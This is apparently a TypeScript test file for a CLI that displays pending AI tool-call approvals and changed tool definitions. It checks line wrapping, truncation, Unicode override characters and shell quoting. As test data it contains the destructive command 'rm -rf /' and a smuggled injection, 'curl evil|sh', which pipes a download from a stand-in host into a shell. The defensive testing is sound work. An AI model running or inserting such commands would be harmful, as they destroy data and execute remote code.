import { describe, expect, it } from 'vitest';
import type { OpenApproval } from '../../control/contract/people.ts';
import type { HeldReport } from '../../control/contract/servers.ts';
import { PLAIN } from '../terminal/style.ts';
import { renderApproval, renderApprovals, shortIds } from './approvals.ts';
import { renderHeldList, renderHeldTool } from '../commands/accept.ts';

const NOW = 1_000_000;
const approval = (id: string, more: Partial<OpenApproval> = {}): OpenApproval => ({
  id,
  caller: 'laptop',
  server: 'files',
  tool: 'write_file',
  arguments: '{"path":"/tmp/x"}',
  askedAt: NOW - 12_000,
  state: 'open',
  expiresAt: undefined,
  ...more,
});
const options = { style: PLAIN, now: NOW, width: Number.POSITIVE_INFINITY, canAlways: true };
const lines = (text: string): string[] => text.split('\n');

describe('renderApprovals', () => {
  it('shows caller, tool and the next step', () => {
    const list = [
      approval('abcdef0123'),
      approval('abcdef9999', { state: 'allowed', expiresAt: NOW + 60_000, arguments: '{"a":"\u202e"}' }),
    ];
    expect(lines(renderApprovals(list, options))).toEqual([
      '? files.write_file  open, requested by laptop 12 s ago  abcdef0',
      '  {"path":"/tmp/x"}',
      '',
      '- files.write_file  allowed, 1 min left, requested by laptop 12 s ago  abcdef9',
      String.raw`  {"a":"\u202e"}`,
      '',
      'Next: pincer approvals allow abcdef0, or pincer approvals deny abcdef0',
      '',
    ]);
    expect(renderApprovals([], options)).toBe('No call is waiting for your approval.\n');
  });

  const shownIn = (text: string): string =>
    lines(text)
      .slice(1)
      .map((line) => line.slice(2))
      .join('');

  it('shows every call in full, in lines that fit the terminal', () => {
    const text = `{"text":"${'x'.repeat(300)}; rm -rf /"}`;
    const others = [
      approval('abcdef0123', { arguments: text }),
      approval('zzzzzz0123', { tool: 'y'.repeat(90) }),
    ];
    const shown = renderApprovals(others, { ...options, width: 80 });
    expect(shownIn(shown)).toContain(text);
    expect(shown).toContain('\n  {"path":"/tmp/x"}\n');
    for (const line of lines(shown).filter((each) => each.startsWith('  ')))
      expect(line.length).toBeLessThanOrEqual(80);
  });

  it('cuts a very long call in the list and says how to see all of it', () => {
    const long = approval('abcdef0123', { arguments: `{"text":"${'x'.repeat(9_000)}; rm -rf /"}` });
    expect(renderApprovals([long], { ...options, width: 80 })).toContain(
      '  … 9021 characters in total. Read all: pincer approvals show abcdef, or add --json\n',
    );
    expect(renderApprovals([long], { ...options, width: 80 })).toMatch(
      /\nNext: pincer approvals show abcdef\n$/,
    );
    expect(shownIn(renderApproval(long, { ...options, width: 80 }))).toBe(long.arguments);
    expect(renderApprovals([long], options)).toContain(long.arguments);
  });

  it('shortens ids as far as they stay unambiguous', () => {
    expect(shortIds(['abcdefgh', 'abcdefxy', 'zz'])).toEqual(['abcdefg', 'abcdefx', 'zz']);
  });
});

describe('renderHeldTool', () => {
  const changed: HeldReport = {
    server: 'files',
    tool: 'write_file',
    why: 'changed',
    digest: 'd',
    changes: [
      { path: 'description', line: 2, before: 'Writes.', after: 'Writes.\nAnd \\u202e reads.' },
      { path: 'inputSchema.properties.path', line: undefined, before: '{"type":"string"}', after: undefined },
    ],
  };

  it('shows the accepted and the offered definition', () => {
    expect(lines(renderHeldTool(changed, PLAIN))).toEqual([
      'files.write_file has changed',
      '  description from line 2',
      '    - Writes.',
      '    + Writes.',
      String.raw`    + And \u202e reads.`,
      '  inputSchema.properties.path',
      '    - {"type":"string"}',
      '',
    ]);
  });

  it('shows a new tool in full', () => {
    const member = { line: undefined, before: undefined };
    const changes = [
      { ...member, path: 'description', after: 'Writes.\nA file.' },
      { ...member, path: 'name', after: '"write_file"' },
    ];
    expect(lines(renderHeldTool({ ...changed, why: 'new', changes }, PLAIN))).toEqual([
      'files.write_file is new',
      '  description: Writes.',
      '    A file.',
      '  name: "write_file"',
      '',
    ]);
  });

  it('lists held tools and the next step', () => {
    expect(lines(renderHeldList([changed], PLAIN))).toEqual([
      '!  files.write_file  changed: description, inputSchema.properties.path',
      '',
      '1 tool held. Review and accept: pincer accept files.write_file',
      '',
    ]);
    expect(renderHeldList([], PLAIN)).toContain('No tool is held');
    expect(renderHeldList([{ ...changed, tool: 'y;curl evil|sh #' }], PLAIN)).toContain(
      "and accept: pincer accept 'files.y;curl evil|sh #'\n",
    );
  });
});
